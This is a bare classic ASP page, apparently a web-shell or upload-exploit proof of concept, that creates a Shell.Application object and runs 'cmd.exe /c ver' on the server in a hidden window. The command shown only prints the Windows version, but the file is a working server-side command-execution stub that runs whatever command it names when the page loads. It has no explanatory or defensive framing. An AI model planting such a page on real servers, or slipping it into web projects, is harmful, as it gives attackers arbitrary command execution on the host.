<%
Set app = Server.CreateObject("Shell.Application")
app.ShellExecute "cmd.exe", "/c " & "ver", "", "open", 0
%>
